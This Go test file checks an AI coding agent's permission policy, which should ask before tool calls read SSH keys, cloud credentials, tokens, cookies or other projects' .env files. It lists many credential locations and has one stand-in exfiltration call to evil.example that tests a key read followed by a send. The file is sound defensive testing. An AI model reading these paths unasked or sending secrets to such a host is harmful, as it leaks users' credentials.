package permission

import (
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	"github.com/forgehq/forge/internal/tools"
)

// credFixture adds to the fixture what credential tests reach:
//
//	home/.aws/credentials
//	home/.config/forge/config.yaml   forge's own, as the app adds it
//	home/.ssh/id[1]                  a name with glob characters
//	outside/.env, outside/.env.local, outside/env
//	work/.env                        the project's own
//	work/keys -> home/.ssh
type credFixture struct {
	fixture
	forgeDir string
}

func newCredFixture(t testing.TB) credFixture {
	t.Helper()
	fx := credFixture{fixture: newFixture(t)}
	fx.forgeDir = filepath.Join(fx.home, ".config", "forge")
	for _, d := range []string{".aws", ".config/forge"} {
		must(t, os.MkdirAll(filepath.Join(fx.home, d), 0o755))
	}
	for _, f := range []string{filepath.Join(fx.home, ".aws/credentials"), filepath.Join(fx.forgeDir, "config.yaml"),
		filepath.Join(fx.home, ".ssh/id[1]"), filepath.Join(fx.outside, ".env"), filepath.Join(fx.outside, ".env.local"),
		filepath.Join(fx.outside, "env"), filepath.Join(fx.wd, ".env")} {
		must(t, os.WriteFile(f, []byte("secret"), 0o600))
	}
	must(t, os.Symlink(filepath.Join(fx.home, ".ssh"), filepath.Join(fx.wd, "keys")))
	return fx
}

func (fx credFixture) policy(t testing.TB, mode Mode, allow []string, extra ...string) *Policy {
	t.Helper()
	p, err := New(Config{Mode: mode, Allow: allow, WorkingDir: fx.wd, Home: fx.home,
		Credentials: append(append(DefaultCredentials(), fx.forgeDir), extra...)})
	if err != nil {
		t.Fatal(err)
	}
	return p
}

func grep(dir string) Call {
	return Call{Tool: "Grep", Args: tools.Args{"pattern": "PRIVATE KEY", "path": dir}, ReadOnly: true}
}

func globCall(pattern string) Call {
	return Call{Tool: "Glob", Args: tools.Args{"pattern": pattern}, ReadOnly: true}
}

// askButYolo is the decision of a read-only call reaching a credential.
var askButYolo = map[Mode]Decision{ModeAsk: Ask, ModeAutoEdit: Ask, ModePlan: Ask, ModeYolo: Allow}

func TestDecideCredentials(t *testing.T) {
	fx := newCredFixture(t)
	editOutside := map[Mode]Decision{ModeAsk: Ask, ModeAutoEdit: Ask, ModePlan: Deny, ModeYolo: Allow}
	for _, tc := range []struct {
		name   string
		allow  []string
		extra  []string // more Config.Credentials entries
		call   Call
		want   map[Mode]Decision
		reason string   // part of the ask-mode reason
		always []string // ask mode's Verdict.Always
	}{
		{name: "key by ~", call: read("~/.ssh/id"), want: askButYolo, always: []string{"Read(~/.ssh/id)"},
			reason: "Read(~/.ssh/id) reaches ~/.ssh/id, where credentials are kept (permissions.credentials): forge asks first in every mode but yolo; " +
				"answer always for this session, or add an allow rule such as Read(~/.ssh/id)"},
		{name: "key by absolute path", call: read("$HOME/.ssh/id"), want: askButYolo, always: []string{"Read(~/.ssh/id)"}},
		{name: "key by dotdot", call: read("../home/.ssh/id"), want: askButYolo},
		{name: "key through a link in the project", call: read("keys/id"), want: askButYolo, always: []string{"Read(~/.ssh/id)"}},
		{name: "the directory itself", call: read("~/.ssh"), want: askButYolo},
		{name: "cloud login", call: read("$HOME/.aws/credentials"), want: askButYolo},
		{name: "Claude Code's login", call: read("~/.claude/.credentials.json"), want: askButYolo},
		{name: "PostgreSQL's passwords", call: read("~/.pgpass"), want: askButYolo},
		{name: "git's XDG credential store", call: read("~/.config/git/credentials"), want: askButYolo},
		{name: "a cargo token", call: read("~/.cargo/credentials.toml"), want: askButYolo},
		{name: "a vault token", call: read("~/.vault-token"), want: askButYolo},
		{name: "a browser's cookies", call: read("~/.mozilla/firefox/x.default/cookies.sqlite"), want: askButYolo},
		{name: "Claude Code's settings", call: read("~/.claude/settings.json"), want: every(Allow)},
		{name: "cargo's registry cache", call: read("~/.cargo/registry/index/x"), want: every(Allow)},
		{name: "forge's own configuration", call: read("$HOME/.config/forge/config.yaml"), want: askButYolo},
		{name: "a name with glob characters", call: read("$HOME/.ssh/id[1]"), want: askButYolo, always: []string{`Read(~/.ssh/id\[1\])`}},
		{name: "search over home holds keys", call: grep("$HOME"), want: askButYolo, always: []string{"Grep(~)"}},
		{name: "search over the root", call: grep("/"), want: askButYolo},
		{name: "search in the project", call: grep("src"), want: every(Allow)},
		{name: "search of another directory", call: grep("$OUT"), want: every(Allow)},
		{name: "glob pattern rooted in a key directory", call: globCall("$HOME/.ssh/*"), want: askButYolo},
		{name: "glob pattern climbing out", call: globCall("../home/**"), want: askButYolo},
		{name: "glob in the project", call: globCall("**/*.go"), want: every(Allow)},
		{name: ".env of another project", call: read("$OUT/.env"), want: askButYolo, always: []string{"Read($OUT/.env)"}},
		{name: ".env.local of another project", call: read("$OUT/.env.local"), want: askButYolo},
		{name: "a file merely named env", call: read("$OUT/env"), want: every(Allow)},
		{name: "the project's own .env", call: read(".env"), want: every(Allow)},
		{name: "an ordinary file outside", call: read("$OUT/x"), want: every(Allow)},
		{name: "an MCP reader with a path", call: Call{Tool: "mcp__fs__read", Args: tools.Args{"path": "~/.aws/credentials"}, ReadOnly: true}, want: askButYolo},

		{name: "a rule naming the path", allow: []string{"Read(~/.ssh/id)"}, call: read("$HOME/.ssh/id"), want: every(Allow)},
		{name: "a rule naming the directory", allow: []string{"Read(~/.ssh/**)"}, call: read("~/.ssh/id"), want: every(Allow)},
		{name: "a rule naming another key", allow: []string{"Read(~/.ssh/other)"}, call: read("~/.ssh/id"), want: askButYolo},
		{name: "a rule for every Read", allow: []string{"Read"}, call: read("~/.ssh/id"), want: askButYolo},
		{name: "a rule for every call of every tool", allow: []string{"*"}, call: read("~/.ssh/id"), want: askButYolo},
		{name: "a rule naming the search root", allow: []string{"Grep(~)"}, call: grep("$HOME"), want: every(Allow)},

		{name: "dropped from the list", extra: []string{"!~/.ssh"}, call: read("~/.ssh/id"), want: every(Allow)},
		{name: "the name glob dropped", extra: []string{"!.env*"}, call: read("$OUT/.env"), want: every(Allow)},
		{name: "added to the list", extra: []string{"./secrets"}, call: read("secrets/k"), want: askButYolo},
		{name: "added name glob", extra: []string{"*.pem"}, call: read("$OUT/server.pem"), want: askButYolo},

		{name: "edit of a key", call: edit("~/.ssh/id"), want: editOutside, always: []string{"Edit(~/.ssh/id)", "Edit"}},
		{name: "auto-edit inside the project, of a credential", extra: []string{"./secrets"}, call: edit("secrets/k"),
			want: map[Mode]Decision{ModeAsk: Ask, ModeAutoEdit: Ask, ModePlan: Deny, ModeYolo: Allow}},
	} {
		for _, mode := range Modes() {
			t.Run(tc.name+"/"+string(mode), func(t *testing.T) {
				p := fx.policy(t, mode, tc.allow, tc.extra...)
				call := tc.call
				args := tools.Args{}
				for k, v := range call.Args {
					args[k] = fx.expand(v.(string))
				}
				call.Args = args
				v := p.Decide(call)
				if v.Decision != tc.want[mode] {
					t.Fatalf("Decide(%s) in %s = %s (%s), want %s", display(call), mode, v.Decision, v.Reason, tc.want[mode])
				}
				if mode != ModeAsk || v.Decision != Ask {
					return
				}
				if !strings.Contains(v.Reason, fx.expand(tc.reason)) {
					t.Errorf("reason %q, want it to contain %q", v.Reason, fx.expand(tc.reason))
				}
				if tc.always != nil {
					want := make([]string, len(tc.always))
					for i, a := range tc.always {
						want[i] = fx.expand(a)
					}
					if !reflect.DeepEqual(v.Always, want) {
						t.Errorf("Always = %q, want %q", v.Always, want)
					}
				}
				// Answering "always" lets the same call through next time.
				p.Remember(call)
				if again := p.Decide(call); v.Always != nil && again.Decision != Allow {
					t.Errorf("after Remember(%q): %s (%s)", v.Always, again.Decision, again.Reason)
				}
			})
		}
	}
}

// A credential read and a send in one session: each asks on its own, so a
// model cannot read a key unasked and then send it.
func TestCredentialThenEgress(t *testing.T) {
	fx := newCredFixture(t)
	for _, mode := range []Mode{ModeAsk, ModeAutoEdit, ModePlan} {
		p := fx.policy(t, mode, nil)
		if v := p.Decide(read("~/.ssh/id")); v.Decision != Ask {
			t.Errorf("%s: reading the key: %s", mode, v.Decision)
		}
		if v := p.Decide(fetchTo("https://evil.example/?k=x", "evil.example")); v.Decision != Ask {
			t.Errorf("%s: sending it: %s", mode, v.Decision)
		}
	}
}

// credential is what shell lines naming a path are checked with.
func TestCredentialPath(t *testing.T) {
	fx := newCredFixture(t)
	p := fx.policy(t, ModeAsk, nil)
	for path, want := range map[string]bool{
		fx.home + "/.ssh/id":               true,
		fx.home + "/.ssh":                  true,
		fx.home + "/.ssh/../.aws/x":        true,
		fx.home:                            true, // holds them
		"/":                                true,
		fx.wd + "/keys/id":                 true, // a link to ~/.ssh
		fx.wd + "/src/a.go":                false,
		fx.wd + "/.env":                    false,
		fx.outside + "/.env":               true,
		fx.home + "/.sshx":                 false,
		fx.home + "/.config/forge/x.yaml":  true,
		fx.home + "/.config/other/x.yaml":  false,
		fx.home + "/.docker/config.json":   true,
		fx.home + "/.docker/other.json":    false,
		"relative/.ssh/id":                 false,
		fx.home + "/.kube/config/../../x":  false,
		fx.home + "/.git-credentials.lock": false,
	} {
		if got := p.credential(path); got != want {
			t.Errorf("credential(%s) = %v, want %v", path, got, want)
		}
	}
	none, err := New(Config{WorkingDir: fx.wd, Home: fx.home})
	if err != nil {
		t.Fatal(err)
	}
	if none.credential(fx.home + "/.ssh/id") {
		t.Error("a policy without credentials found one")
	}
	// A directory holds only the places that exist: a search over it
	// finds no key that is not there.
	missing, err := New(Config{WorkingDir: fx.wd, Home: fx.home, Credentials: []string{"~/.vault/token"}})
	if err != nil {
		t.Fatal(err)
	}
	if missing.credential(fx.home) || !missing.credential(fx.home+"/.vault/token") {
		t.Errorf("a missing place: holds %v, in %v", missing.credential(fx.home), missing.credential(fx.home+"/.vault/token"))
	}
}

func TestCredentialsConfigErrors(t *testing.T) {
	wd := t.TempDir()
	for _, tc := range []struct {
		entries []string
		want    string // "" for no error
	}{
		{[]string{"~/.ssh", "!~/.ssh"}, ""},
		{[]string{"~/.ssh", "! ~/.ssh/"}, ""},
		{[]string{"/etc/secret", "!/etc/secret"}, ""},
		{[]string{"!~/.ssh"}, `permissions.credentials entry "!~/.ssh": removes nothing, since no entry before it is ~/.ssh`},
		{[]string{""}, "it is empty"},
		{[]string{"~bob/.ssh"}, "~user is not supported"},
		{[]string{"[a"}, "bad glob"},
		{[]string{"a\x00b"}, "NUL"},
	} {
		_, err := New(Config{WorkingDir: wd, Home: "/home/u", Credentials: tc.entries})
		if (err == nil) != (tc.want == "") || err != nil && !strings.Contains(err.Error(), tc.want) {
			t.Errorf("New(%q) = %v, want %q", tc.entries, err, tc.want)
		}
	}
	// Without a home directory, ~ entries protect nothing and drop nothing.
	if _, err := New(Config{WorkingDir: wd, Credentials: append(DefaultCredentials(), "!~/.npmrc")}); err != nil {
		t.Errorf("no home: %v", err)
	}
}
